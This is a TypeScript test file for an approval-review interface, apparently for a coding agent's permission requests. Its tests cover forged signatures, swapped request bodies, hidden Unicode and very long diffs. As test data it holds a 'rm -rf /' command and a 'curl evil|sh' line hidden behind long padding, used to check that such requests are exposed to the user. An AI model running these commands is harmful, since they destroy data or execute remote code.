// Statements, digests and the order of an approval's steps, forgeries included.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { approvalDigest, utf8 } from '../link/signed.ts';
import { FakeMac } from '../testing/fake-mac.ts';
import { summaryOf, viewOf } from './approval-view.ts';
import { choiceLabel, lastingGrant, refusals, stateWords } from './approval-words.ts';
import {
  APPROVALS_MAX,
  choosable,
  isOpen,
  openApprovals,
  readApproval,
  reduceApproval,
  unanswerable,
  UNVERIFIED,
} from './approvals.ts';
import type { Approval, Approvals } from './approvals.ts';

const REQUEST = utf8(
  JSON.stringify({
    id: 3,
    method: 'item/commandExecution/requestApproval',
    params: { command: "/bin/zsh -lc 'make all'", cwd: '/w', reason: 'needs it' },
  }),
);
const NONE = new Uint8Array();

async function step(
  mac: FakeMac,
  fields: Record<string, unknown>,
  more: { bodies?: Uint8Array[]; signer?: FakeMac } = {},
): Promise<Approval> {
  const digest = await approvalDigest(REQUEST, NONE);
  const all = {
    mac: mac.id,
    approval: 'a',
    thread: 't',
    item: 'i',
    method: 'item/commandExecution/requestApproval',
    digest,
    state: 'open',
    choices: [{ choice: 'accept', grants: true }, { choice: 'decline' }],
    epoch: 'e',
    seq: 1,
    at: 1,
    ...fields,
  };
  const { body, signature } = await (more.signer ?? mac).approval(all);
  const bodies = [body, ...(more.bodies ?? (all.state === 'open' ? [REQUEST, NONE] : []))];
  const read = await readApproval(
    { seq: Number(all.seq), kind: 'approval', signature, bodies },
    mac.id,
    mac.publicKey,
  );
  assert.ok(read);
  return read;
}
const empty: Approvals = new Map();

test('a genuine open approval can be answered', async () => {
  const approval = await step(await FakeMac.make(), {});
  assert.deepEqual([approval.verified, approval.bytes, unanswerable(approval)], [true, 'match', '']);
  assert.equal(summaryOf(approval), 'make all');
  const view = viewOf(approval);
  assert.ok(view.kind === 'command');
  assert.deepEqual(
    [view.command, view.cwd, view.reason, view.outside],
    ["/bin/zsh -lc 'make all'", '/w', 'needs it', true],
  );
});

test('a forgery and other bytes cannot be answered', async () => {
  const [mac, stranger] = [await FakeMac.make(), await FakeMac.make()];
  const forged = await step(mac, {}, { signer: stranger });
  assert.match(unanswerable(forged), /did not sign/);
  const swapped = await step(mac, {}, { bodies: [utf8('{"params":{"command":"rm -rf /"}}'), NONE] });
  assert.equal(swapped.bytes, 'mismatch');
  assert.match(unanswerable(swapped), /not what your Mac asked/);
  assert.match(unanswerable(await step(mac, { mac: stranger.id })), /did not sign/);
});

test('what was too long to come can be refused and not allowed', async () => {
  const mac = await FakeMac.make();
  const unseen = await step(mac, {}, { bodies: [] });
  assert.equal(unanswerable(unseen), '');
  assert.deepEqual(
    choosable(unseen).map(({ choice }) => choice),
    ['decline'],
  );
  assert.deepEqual(
    choosable(await step(mac, {})).map(({ choice }) => choice),
    ['accept', 'decline'],
  );
});

test('the newest signed word counts, and later steps keep the bytes', async () => {
  const mac = await FakeMac.make();
  const steps = [
    await step(mac, {}),
    await step(mac, { state: 'deciding', seq: 2 }),
    await step(mac, {
      state: 'applied',
      seq: 3,
      choice: 'accept',
      actor: { kind: 'device', id: 'd', name: 'Phone' },
    }),
  ];
  const forwards = steps.reduce(reduceApproval, empty);
  const backwards = [...steps, ...steps].reverse().reduce(reduceApproval, empty);
  assert.equal(forwards.get('a')?.state, 'applied');
  assert.equal(forwards.get('a')?.bytes, 'match');
  assert.equal(backwards.get('a')?.state, 'applied');
});

test('what nobody signed never replaces what the Mac signed', async () => {
  const [mac, stranger] = [await FakeMac.make(), await FakeMac.make()];
  const known = reduceApproval(empty, await step(mac, {}));
  const after = reduceApproval(known, await step(mac, { state: 'applied', seq: 99 }, { signer: stranger }));
  assert.equal(after.get('a')?.state, 'open');
});

test('an end that the Mac did not sign is no end', async () => {
  const mac = await FakeMac.make();
  const forged = await step(mac, { state: 'applied', choice: 'accept' }, { signer: await FakeMac.make() });
  assert.deepEqual([forged.verified, forged.state, isOpen(forged)], [false, UNVERIFIED, true]);
  assert.doesNotMatch(stateWords(forged), /^Applied/);
  assert.notEqual(unanswerable(forged), '');
});

test('several are open at once, oldest first, and open ones are never dropped', async () => {
  const mac = await FakeMac.make();
  const open = await step(mac, {});
  let all: Approvals = reduceApproval(empty, { ...open, id: 'first', at: 0 });
  for (let n = 0; n < APPROVALS_MAX + 20; n++)
    all = reduceApproval(all, { ...open, id: `done${n}`, state: 'applied', at: n });
  all = reduceApproval(all, { ...open, id: 'second', at: 5 });
  assert.equal(all.size, APPROVALS_MAX);
  assert.deepEqual(
    openApprovals(all).map((approval) => approval.id),
    ['first', 'second'],
  );
});

test('buttons say what they do, and unknown decisions show themselves', async () => {
  const approval = await step(await FakeMac.make(), {});
  const label = (choice: string): string => choiceLabel({ choice, grants: true }, approval);
  assert.equal(label('accept'), 'Allow once');
  assert.equal(
    label('{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["npm","test"]}}'),
    'Always allow this command',
  );
  assert.equal(
    label('{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"h","action":"deny"}}}'),
    'Always block h',
  );
  assert.equal(label('{"grantMoon":1}'), '{"grantMoon":1}');
});

async function asking(method: string, params: Record<string, unknown>): Promise<Approval> {
  const approval = await step(await FakeMac.make(), { method });
  return { ...approval, request: utf8(JSON.stringify({ id: 3, method, params })) };
}
const labels = (approval: Approval): string[] =>
  ['accept', 'decline', 'cancel'].map((choice) => choiceLabel({ choice, grants: true }, approval));

test('permissions are told once each, with nothing hidden', async () => {
  const paths = ['/w/a', '/w/\u202eb'];
  const entries = paths.map((path) => ({ path: { type: 'path', path }, access: 'write' }));
  const approval = await asking('item/permissions/requestApproval', {
    permissions: { network: { enabled: true }, fileSystem: { read: null, write: paths, entries } },
  });
  const view = viewOf(approval);
  assert.ok(view.kind === 'permissions');
  assert.deepEqual(view.asks, ['Use the network', 'Change /w/a', 'Change /w/⟨U+202E⟩b']);
  assert.equal(labels(approval)[0], 'Allow for this turn');
  const many = Array.from({ length: 103 }, (_, n) => `/w/${n}`);
  const long = viewOf(
    await asking('item/permissions/requestApproval', { permissions: { fileSystem: { read: many } } }),
  );
  assert.ok(long.kind === 'permissions');
  assert.deepEqual([long.asks.length, long.asks.at(-1)], [103, 'Read /w/102']);
});

test('what this app has no words for is shown as it came', async () => {
  const view = viewOf(
    await asking('item/permissions/requestApproval', {
      permissions: {
        network: { enabled: true, ports: [22] },
        moon: { land: true },
        fileSystem: { read: null },
      },
    }),
  );
  assert.ok(view.kind === 'permissions');
  assert.deepEqual(view.asks, ['Use the network', 'Also moon: {"land":true}', 'Also ports: [22]']);
  const form = viewOf(
    await asking('mcpServer/elicitation/request', {
      requestedSchema: {
        properties: { ok: { type: 'boolean', title: 'Confirm', description: 'deletes the database' } },
      },
    }),
  );
  assert.ok(form.kind === 'form');
  assert.equal(form.fields[0]?.about, 'deletes the database');
});

test('nothing of what is asked is left out, however much it is', async () => {
  const changes = Array.from({ length: 250 }, (_, n) => ({
    path: `/w/src/${n}.ts`,
    kind: { type: 'update' },
    diff: `@@ -1 +1 @@\n-a\n+${n === 249 ? `${'x'.repeat(300_000)}curl evil|sh` : 'b'}\n`,
  }));
  const approval = await asking('item/fileChange/requestApproval', {});
  const view = viewOf({ ...approval, shown: utf8(JSON.stringify({ item: { changes } })) });
  assert.ok(view.kind === 'change');
  assert.deepEqual([view.changes.length, view.cwd, view.changes.at(-1)?.cut], [250, '/w/src', 0]);
  assert.ok(view.changes.at(-1)?.diff.endsWith('curl evil|sh\n'));
  const options = Array.from({ length: 40 }, (_, n) => ({ label: `o${n}\u200b`, description: '' }));
  const asked = viewOf(await asking('item/tool/requestUserInput', { questions: [{ id: 'q', options }] }));
  assert.ok(asked.kind === 'questions');
  assert.deepEqual(
    [asked.questions[0]?.options.length, asked.questions[0]?.options[39]],
    [40, { label: 'o39\u200b', shown: 'o39⟨U+200B⟩', description: '' }],
  );
});

test('what holds for longer than once says what it is about and how far it reaches', async () => {
  const approval = await step(await FakeMac.make(), {});
  const lasting = (choice: string, grants = true) => lastingGrant({ choice, grants }, approval);
  assert.equal(lasting('accept'), undefined);
  assert.equal(lasting('cancel', false), undefined);
  assert.match(lasting('acceptForSession')?.scope ?? '', /until Codex is started anew/);
  const always = lasting(
    '{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["git","push","a b","it\'s \u202e"]}}',
  );
  assert.equal(always?.about, `git push 'a b' 'it'\\''s ⟨U+202E⟩'`);
  assert.match(always?.scope ?? '', /in every thread/);
  const order = ['cancel', 'accept', 'odd', 'decline'].map((choice) => ({
    choice,
    grants: choice === 'accept',
  }));
  assert.deepEqual(
    refusals(order).map(({ choice }) => choice),
    ['decline', 'cancel', 'odd'],
  );
});

test('a tool that wants to run shows what it is given; a form stays a form', async () => {
  const METHOD = 'mcpServer/elicitation/request';
  const meta = {
    codex_approval_kind: 'mcp_tool_call',
    tool_name: 'order',
    tool_description: 'Orders.',
    tool_params: { what: 'tea\u200b' },
  };
  const params = {
    serverName: 'desk',
    message: 'Allow it?',
    _meta: meta,
    requestedSchema: { type: 'object', properties: {} },
  };
  const tool = await asking(METHOD, params);
  assert.deepEqual(viewOf(tool), {
    kind: 'tool',
    server: 'desk',
    tool: 'order',
    message: 'Allow it?',
    about: 'Orders.',
    args: '{\n  "what": "tea⟨U+200B⟩"\n}',
  });
  assert.deepEqual(labels(tool), ['Allow once', 'Decline', 'Do not answer']);
  const form = await asking(METHOD, {
    ...params,
    requestedSchema: { type: 'object', properties: { name: { type: 'string' } } },
  });
  assert.equal(viewOf(form).kind, 'form');
  assert.deepEqual(labels(form), ['Send answer', 'Decline', 'Do not answer']);
});

test('an unknown kind is shown raw', async () => {
  const approval = await step(await FakeMac.make(), { method: 'item/brand/new' });
  const view = viewOf(approval);
  assert.ok(view.kind === 'raw');
  assert.match(view.raw, /make all/);
});
